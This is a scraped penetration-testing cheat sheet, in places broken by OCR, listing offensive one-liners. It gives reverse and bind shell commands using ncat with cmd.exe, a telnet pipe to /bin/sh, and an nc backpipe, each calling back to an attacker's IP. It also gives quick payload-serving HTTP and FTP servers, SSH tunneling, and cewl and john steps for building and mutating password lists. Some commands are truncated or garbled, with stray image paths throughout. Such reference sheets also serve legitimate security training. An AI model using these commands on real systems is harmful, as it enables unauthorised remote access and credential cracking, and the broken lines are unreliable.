Shell with Ncat with SSL and IP Filterncat --ssl -nlvp 443 --allow # listen ncat --ssl 443 -c "cmd.exe" # connect

Shell with telnet

nc -lvp 4444 # attacker's machine, for input nc -lvp 4445 # attacker's machine, for output telnet [atackers ip] 4444 | /bin/sh | [local ip] 4445 # On the targets system. Use the attackers IP!

mknod shell

mknod backpipe p && nc [attackers ip] 443 0backpipe nc -nlvp 443 # on the attacker's machine

Serving Payloads

One line servers

python -m SimpleHTTPServer 8080
python -m pyftpdlib -w -d . -V -p 2121 # write in current folder activated!
python -m CGIHTTPServer # executes scripts in ./cgi-bin/ , sample script - simple uploading site, can be served or simply run!

Cross Pastingcat << EOF > res.txt
> code
> more code

ZSSH - file transfers in ssh shell

# to download a file
root@target: sz file.txt
# to upload Ctrl-Space, then
zssh > sz file.txt

SSH tunneling

ssh -[L/R] [local port]:[remote ip]:[remote port] [local user]@[local ip] ssh -L 8080: root@ # Local Port

Open Remotely port 80 of on port 8080 on Remote server

ssh -R 8080: root@ # Remote Port

SSH dynamic forwarding

ssh -D -N [username]@[ip] proxychains ifconfig

SSH Audit host

Password cracking

A large list of password recovery tools:
Calling john from metasploit for NTLM cracks:CEWL - building word lists

cewl -d 0 -m 5 -w mylist.txt
#this will make a list of words of at least 5 characters and save it. Depth = 0 - links are not followed.
diff --new-line-format="" --unchanged-line-format="" <(sort mylist.txt) <(sort wikipedia.langs.lst) | grep -iv "wiki" | uniq
# removing the wikipedia words and languages listed
List of languages on Wikipedia: wikipedia.langs.lst

John - mutate the word list

john -wordlist:words.txt -rules:Wordlist -stdout >> passwords.txt
See the Wordlist rules list in /etc/john/john.conf from[List.Rules:Wordlist] line


This website will crack some kinds of hashes for you online.


 * Mach larger arsenal:  my fork:
 * Pentest wiki: my fork:
 * Hacking tutorials:
 * Linux enumeration by g0tm1lk:

Last update: 04/03/2019